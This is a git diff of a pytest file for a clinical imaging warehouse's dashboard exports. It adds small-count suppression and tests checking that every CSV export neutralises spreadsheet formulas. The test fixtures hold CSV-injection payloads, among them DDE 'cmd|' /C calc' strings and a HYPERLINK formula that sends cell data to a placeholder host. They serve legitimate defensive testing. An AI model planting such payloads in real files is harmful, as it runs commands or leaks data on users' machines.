@@ -1,10 +1,14 @@
 """Dashboard table builders (reference/clinical-data.md sections 1.2, 4, 4.1 and 5)."""
 
+import csv
 import datetime as dt
+import io
 import json
+import re
 
 import numpy as np
 import pandas as pd
+import pyarrow as pa
 import pydicom
 import pytest
 from pydicom.datadict import tag_for_keyword
@@ -19,6 +23,7 @@ from warehouse.dashboard.tables import (
     flatten_clinical_record,
     metadata_row,
     patient_table,
+    public_counts,
     public_statistics,
     storage_by_prefix,
     storage_table,
@@ -499,36 +504,70 @@ def stats_inputs():
     return patients, ct, xray, storage
 
 
-def test_public_statistics_by_hand():
+def rows_of(text: str) -> list[tuple[str, str]]:
+    """The rows of a statistics file, read with the csv module."""
+    return [tuple(row) for row in csv.reader(io.StringIO(text, newline=""))]
+
+
+def test_public_counts_by_hand():
     patients, ct, xray, storage = stats_inputs()
     now = dt.datetime(2021, 3, 20, 12, 0)
-    files = public_statistics(patients, ct, xray, None, storage, now)
+    counts = public_counts(patients, ct, xray, None, storage, now)
     # Training only. Imaged = {P1, P2, P4} (P5 is validation, P3 has no image).
     # Positive {P1, P3} -> 1 with images; negative {P2, P4} -> 2 with images.
     # Cutoff 2021-02-18 12:00: P1 (03-01) and P3 (03-05) are new; P5 is validation.
-    assert files["stats_patients.csv"] == (
-        "Total number of patients with images,3\n"
-        "Positive patients with images,1\n"
-        "Negative patients with images,2\n"
-        "New patients added in the last 30 days,2\n"
-    )
+    assert counts["stats_patients.csv"] == [
+        ("Total number of patients with images", "3"),
+        ("Positive patients with images", "1"),
+        ("Negative patients with images", "2"),
+        ("New patients added in the last 30 days", "2"),
+    ]
     # Distinct training studies: X-ray s1..s4 = 4, CT s6 = 1, MRI none = 0.
-    assert files["stats_images.csv"] == (
-        "Total number of image studies,5\n"
-        "X-ray image studies,4\n"
-        "CT image studies,1\n"
-        "MRI image studies,0\n"
-    )
+    assert counts["stats_images.csv"] == [
+        ("Total number of image studies", "5"),
+        ("X-ray image studies", "4"),
+        ("CT image studies", "1"),
+        ("MRI image studies", "0"),
+    ]
     # 3309 GB total; CT 2786.4, X-ray 439.2, MRI 5.6; rest 3309 - 3231.2 = 77.8 -> 78.
-    assert files["stats_storage.csv"] == (
-        '"Total image, image metadata, and clinical data storage","3,309GB"\n'
-        'CT image storage,"2,786GB"\n'
-        "X-ray image storage,439GB\n"
-        "MRI image storage,6GB\n"
-        "Clinical data and image metadata export,78GB\n"
-    )
+    assert counts["stats_storage.csv"] == [
+        ("Total image, image metadata, and clinical data storage", "3,309GB"),
+        ("CT image storage", "2,786GB"),
+        ("X-ray image storage", "439GB"),
+        ("MRI image storage", "6GB"),
+        ("Clinical data and image metadata export", "78GB"),
+    ]
     # Centre A and Centre B (missing centre not counted, Centre C is validation).
-    assert files["stats_submittingcentres.csv"] == "Submitting centres (e.g. NHS trusts),2\n"
+    assert counts["stats_submittingcentres.csv"] == [("Submitting centres (e.g. NHS trusts)", "2")]
+
+
+def test_public_statistics_by_hand_every_count_is_small():
+    patients, ct, xray, storage = stats_inputs()
+    files = public_statistics(patients, ct, xray, None, storage, dt.datetime(2021, 3, 20, 12))
+    small = "fewer than 10"
+    assert files["stats_patients.csv"] == (
+        f"Total number of patients with images,{small}\r\n"
+        f"Positive patients with images,{small}\r\n"
+        f"Negative patients with images,{small}\r\n"
+        f"New patients added in the last 30 days,{small}\r\n"
+    )
+    assert rows_of(files["stats_images.csv"]) == [
+        ("Total number of image studies", small),
+        ("X-ray image studies", small),
+        ("CT image studies", small),
+        ("MRI image studies", small),
+    ]
+    # Storage is not a count: as counted.
+    assert files["stats_storage.csv"] == (
+        '"Total image, image metadata, and clinical data storage","3,309GB"\r\n'
+        'CT image storage,"2,786GB"\r\n'
+        "X-ray image storage,439GB\r\n"
+        "MRI image storage,6GB\r\n"
+        "Clinical data and image metadata export,78GB\r\n"
+    )
+    assert (
+        files["stats_submittingcentres.csv"] == f"Submitting centres (e.g. NHS trusts),{small}\r\n"
+    )
     assert files["stats_date.txt"] == "This information was last updated on 20 March 2021."
     assert set(files) == {
         "stats_patients.csv",
@@ -572,11 +611,14 @@ def test_public_statistics_thousands_and_csv_round_trip(tmp_path):
         'Total number of patients with images,"1,234"',
         "Positive patients with images,617",
         "Negative patients with images,617",
-        "New patients added in the last 30 days,0",
+        "New patients added in the last 30 days,fewer than 10",  # 0 is under 10 too
     ]
-    assert files["stats_images.csv"].splitlines()[:2] == [
+    # CT and MRI have no study: shown, the X-ray count would say so (1,234 - 1,234 = 0).
+    assert files["stats_images.csv"].splitlines() == [
         'Total number of image studies,"1,234"',
-        'X-ray image studies,"1,234"',
+        "X-ray image studies,suppressed",
+        "CT image studies,fewer than 10",
+        "MRI image studies,fewer than 10",
     ]
     assert files["stats_storage.csv"].splitlines()[-1] == (
         'Clinical data and image metadata export,"1,500GB"'
@@ -589,18 +631,30 @@ def test_public_statistics_empty_warehouse():
     files = public_statistics(
         patients, None, None, None, storage_table({}), dt.datetime(2024, 1, 1)
     )
-    assert files["stats_patients.csv"].splitlines()[0] == "Total number of patients with images,0"
+    assert files["stats_patients.csv"].splitlines()[0] == (
+        "Total number of patients with images,fewer than 10"
+    )
     # all modalities tie at 0: CT, MRI, X-ray order kept
+    assert public_counts(patients, None, None, None, None, dt.datetime(2024, 1, 1))[
+        "stats_images.csv"
+    ] == [
+        ("Total number of image studies", "0"),
+        ("CT image studies", "0"),
+        ("MRI image studies", "0"),
+        ("X-ray image studies", "0"),
+    ]
     assert files["stats_images.csv"].splitlines() == [
-        "Total number of image studies,0",
-        "CT image studies,0",
-        "MRI image studies,0",
-        "X-ray image studies,0",
+        "Total number of image studies,fewer than 10",
+        "CT image studies,fewer than 10",
+        "MRI image studies,fewer than 10",
+        "X-ray image studies,fewer than 10",
     ]
     assert files["stats_storage.csv"].splitlines()[0] == (
         '"Total image, image metadata, and clinical data storage",0GB'
     )
-    assert files["stats_submittingcentres.csv"] == "Submitting centres (e.g. NHS trusts),0\n"
+    assert files["stats_submittingcentres.csv"] == (
+        "Submitting centres (e.g. NHS trusts),fewer than 10\r\n"
+    )
 
 
 def test_public_statistics_from_the_real_pipeline():
@@ -621,6 +675,251 @@ def test_public_statistics_from_the_real_pipeline():
     clean = fill_from_dicom(clean_patient_table(patient_table(rows)), xray)
     assert clean["age_update"].iloc[0] == 45.0
     assert clean["sex_update"].iloc[0] == "F"
-    files = public_statistics(clean, None, xray, None, None, dt.datetime(2021, 3, 20))
-    assert files["stats_patients.csv"].splitlines()[1] == "Positive patients with images,1"
-    assert files["stats_patients.csv"].splitlines()[3] == "New patients added in the last 30 days,1"
+    counts = public_counts(clean, None, xray, None, None, dt.datetime(2021, 3, 20))
+    assert counts["stats_patients.csv"][1] == ("Positive patients with images", "1")
+    assert counts["stats_patients.csv"][3] == ("New patients added in the last 30 days", "1")
+
+
+# --- every CSV file: formulas neutralised, rows and columns as in its Parquet twin -----------
+
+#: What a spreadsheet runs as a formula (OWASP): a text cell starting with one of these.
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+HOSTILE_TEXTS = (
+    '=HYPERLINK("http://example.invalid/?x="&A1,"open")',
+    "+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "ACME\r=1+1",
+    'two\nlines, a comma and a "quote"',
+    "'=1+1",  # quoted already: the quote the writer adds must be the only one to undo
+    "-5",  # text that looks like a negative number is still text
+)
+
+
+def hostile(index: int) -> str:
+    return HOSTILE_TEXTS[index % len(HOSTILE_TEXTS)]
+
+
+def hostile_batch():
+    """A batch whose every text field from an uploader holds a formula or a line break."""
+    from warehouse.core.catalogue import SCHEMA
+    from warehouse.dashboard.batch import build_batch
+    from warehouse.dashboard.tables import CLINICAL_FIELDS
+
+    now = dt.datetime(2021, 3, 20, 12, tzinfo=dt.UTC)
+    patients = []
+    for n in range(len(HOSTILE_TEXTS)):
+        record = {field: hostile(n + i) for i, field in enumerate(sorted(CLINICAL_FIELDS))}
+        record["Pseudonym"] = hostile(n)
+        record["Age"] = -5 if n % 2 else 45.5  # numbers stay numbers, a negative one too
+        record["OtherDataSources"] = {"SegmentationData": {"Ethnicity": hostile(n + 1)}}
+        record["SwabDates"] = [{"SwabDate": hostile(n), "SwabStatus": hostile(n + 2)}]
+        patients.append(
+            {
+                **flatten_clinical_record(record),
+                "filename_earliest_date": D(2021, 3, 1),
+                "filename_covid_status": n % 2 == 0,
+                "filename_latest_date": D(2021, 3, 1),
+                "last_modified": D(2021, 3, 2),
+                "group": "training" if n % 3 else "validation",
+            }
+        )
+    studies = {
+        modality: [
+            {
+                **{field: hostile(n + i) for i, field in enumerate(DICOM_FIELDS)},
+                "Pseudonym": hostile(n),
+                "StudyInstanceUID": f"{hostile(n)}.{modality}.{n}",
+                "group": "training",
+                "last_modified": D(2021, 3, 2),
+            }
+            for n in range(len(HOSTILE_TEXTS))
+        ]
+        for modality in ("ct", "xray", "mri")
+    }
+    text_columns = [f.name for f in SCHEMA if pa.types.is_string(f.type)]
+    images = pa.Table.from_pylist(
+        [
+            {
+                **{name: hostile(n + i) for i, name in enumerate(text_columns)},
+                "group": "training",
+                "modality_folder": "xray",
+                "PatientID": hostile(n),
+                "upload_date": D(2021, 3, 1),
+                "object_size": 1000 + n,
+                "PatientAge": -1.5 if n % 2 else 45.0,
+                "StudyDate": D(2020, 4, 1),
+                "Rows": -1 if n % 2 else 512,
+                "Columns": 512,
+                "PixelSpacing": [0.7, -0.5],
+                "SliceThickness": -2.5,
+                "NumberOfFrames": None,
+                "BitsStored": 12,
+            }
+            for n in range(len(HOSTILE_TEXTS))
+        ],
+        schema=SCHEMA,
+    )
+    study_images = {
+        ("training", "xray", hostile(n), f"{hostile(n)}.xray.{n}", D(2021, 3, 2)): n + 1
+        for n in range(len(HOSTILE_TEXTS))
+    }
+    sizes = {"training/": 10, "training/ct/": 3, "validation/": 4}
+    return build_batch(patients, studies, sizes, now, study_images=study_images, catalogue=images)
+
+
+def undone(cell: str) -> str:
+    """A CSV cell's text as written before the writer's leading quote (test's own rule)."""
+    if cell.startswith("'") and cell.lstrip("'")[:1] in FORMULA_STARTS:
+        return cell[1:]
+    return cell
+
+
+NUMBER = re.compile(r"-?(\d+\.?\d*|\.\d+)([eE][-+]?\d+)?")
+
+
+def check_cell(cell: str, value, where: str) -> None:
+    """One CSV cell (read as text) against the same cell of the Parquet file."""
+    if cell[:1] in FORMULA_STARTS:
+        # Only a number may start like a formula, and a number is never quoted.
+        assert NUMBER.fullmatch(cell), where
+    if isinstance(value, np.ndarray | list):  # PixelSpacing: DICOM's backslash form
+        assert [float(v) for v in cell.split("\\")] == list(value), where
+    elif (
+        value is None
+        or value is pd.NA
+        or value is pd.NaT
+        or (isinstance(value, float) and np.isnan(value))
+    ):
+        assert cell == "", where
+    elif isinstance(value, str):
+        assert undone(cell) == value, where
+    elif isinstance(value, bool | np.bool_):
+        assert cell == str(bool(value)), where
+    elif isinstance(value, int | np.integer | float | np.floating):
+        assert float(cell) == float(value), where
+    else:  # dates
+        assert pd.Timestamp(cell) == pd.Timestamp(value), where
+
+
+#: Text columns no uploader text reaches the start of: the layout's, the cleaning rules'
+#: fixed vocabularies, and dicts and lists (their text starts with { or [).
+NO_FORMULA_POSSIBLE = {
+    *("group", "modality", "modality_folder", "prefix", "ethnicity", "sex"),
+    *("pack_year_history", "smoking_status", "if_ckd_stage", "pmh_cvs_disease"),
+    *("pmh_lung_disease", "cxr_severity", "cxr_severity_2", "covid_code", "covid_code_2"),
+    *("1st_rt-pcr_result", "2nd_rt-pcr_result", "final_covid_status"),
+    *("swabdates", "OtherDataSources", "SwabDates"),
+}
+
+
+def test_every_csv_reads_back_as_its_parquet_twin_with_formulas_neutralised():
+    from warehouse.dashboard.batch import LATEST_KEY, batch_files, csv_bytes
+
+    batch = hostile_batch()
+    files = batch_files(batch)
+    files[LATEST_KEY] = csv_bytes(batch.latest())
+    assert set(batch.tables) == {
+        "ct",
+        "xray",
+        "mri",
+        "patient",
+        "patient_clean",
+        "storage",
+        "study_images",
+        "images",
+    }
+    covered = set()
+    for name in batch.tables:
+        data = files[f"{batch.name}/{name}.csv"]
+        from_csv = pd.read_csv(io.BytesIO(data), dtype=str, keep_default_na=False)
+        from_parquet = pd.read_parquet(io.BytesIO(files[f"{batch.name}/{name}.parquet"]))
+        assert from_csv.shape == from_parquet.shape, name
+        assert [undone(c) for c in from_csv.columns] == list(from_parquet.columns), name
+        for column in range(from_parquet.shape[1]):
+            texts = from_csv.iloc[:, column].tolist()
+            values = from_parquet.iloc[:, column].tolist()
+            for row, (cell, value) in enumerate(zip(texts, values, strict=True)):
+                check_cell(cell, value, f"{name}[{row}, {from_parquet.columns[column]!r}]")
+                if isinstance(value, str) and value[:1] in FORMULA_STARTS:
+                    covered.add((name, from_parquet.columns[column]))
+        # The csv module reads the same rows.
+        rows = list(csv.reader(io.StringIO(data.decode(), newline="")))
+        assert len(rows) == len(from_parquet) + 1, name
+    # Every text column an uploader fills held a formula (derived, fixed-vocabulary and
+    # layout columns excepted).
+    for name, table in batch.tables.items():
+        for column in table.columns:
+            values = pd.read_parquet(
+                io.BytesIO(files[f"{batch.name}/{name}.parquet"]), columns=[column]
+            )[column]
+            if any(isinstance(v, str) for v in values) and (name, column) not in covered:
+                assert column in NO_FORMULA_POSSIBLE, (name, column)
+    # Numbers stay numbers: a negative number is read back as a number.
+    assert pd.read_csv(io.BytesIO(files[f"{batch.name}/images.csv"]))["Rows"].tolist()[:2] == [
+        512,
+        -1,
+    ]
+    latest = pd.read_csv(io.BytesIO(files[LATEST_KEY]), dtype=str)
+    assert latest["path"].tolist()[0] == f"{batch.name}/ct.csv"
+
+
+def test_a_long_text_is_bounded_in_every_table_file_and_page():
+    from warehouse.dashboard.batch import batch_files, build_batch
+
+    centre = "+" + "x" * 5_000
+    row = {
+        "Pseudonym": "P1",
+        "SubmittingCentre": centre,
+        "filename_earliest_date": D(2021, 3, 1),
+        "filename_covid_status": True,
+        "filename_latest_date": D(2021, 3, 1),
+        "last_modified": D(2021, 3, 2),
+        "group": "training",
+    }
+    study = {"Pseudonym": "P1", "Manufacturer": "M" * 3_000, "StudyInstanceUID": "1.2"}
+    batch = build_batch(
+        [row],
+        {"xray": [{**study, "group": "training", "last_modified": D(2021, 3, 2)}]},
+        {},
+        dt.datetime(2021, 3, 20, tzinfo=dt.UTC),
+    )
+    files = batch_files(batch)
+    kept = "+" + "x" * 998 + "\u2026"  # 1,000 characters: 999 kept and an ellipsis
+    for name in ("patient", "patient_clean"):
+        parquet = pd.read_parquet(io.BytesIO(files[f"{batch.name}/{name}.parquet"]))
+        assert parquet["SubmittingCentre"].tolist() == [kept]
+        table = pd.read_csv(io.BytesIO(files[f"{batch.name}/{name}.csv"]), dtype=str)
+        assert table["SubmittingCentre"].tolist() == ["'" + kept]
+    xray = pd.read_parquet(io.BytesIO(files[f"{batch.name}/xray.parquet"]))
+    assert xray["Manufacturer"].tolist() == ["M" * 999 + "\u2026"]
+    assert "x" * 1_000 not in batch.pages["dashboard"]
+
+
+def test_only_the_clinical_data_dictionary_fields_become_columns():
+    from warehouse.dashboard.tables import CLINICAL_FIELDS, dictionary_fields
+
+    record = {
+        "Pseudonym": "Covid1",
+        "=cmd|' /C calc'!A0": 1,
+        "Fibrinogen  if d-dimer not performed": "2",  # two spaces, as the dictionary spells it
+        "Fibrinogen if d-dimer not performed": "3",  # one: not a dictionary field
+        "ITU admission ": 1,  # the schema sheet's trailing space
+        "age": 40,  # field names are case-sensitive
+    }
+    fields, left_out = dictionary_fields(record)
+    assert fields == {
+        "Pseudonym": "Covid1",
+        "Fibrinogen  if d-dimer not performed": "2",
+        "ITU admission ": 1,
+    }
+    assert left_out == [
+        "=cmd|' /C calc'!A0",
+        "Fibrinogen if d-dimer not performed",
+        "age",
+    ]
+    # every raw column a cleaning rule reads is a dictionary field
+    for name in ("Ethnicity", "Sex", "Age", "SwabDate", "SwabDates", "FiO2", "Systolic BP"):
+        assert name in CLINICAL_FIELDS
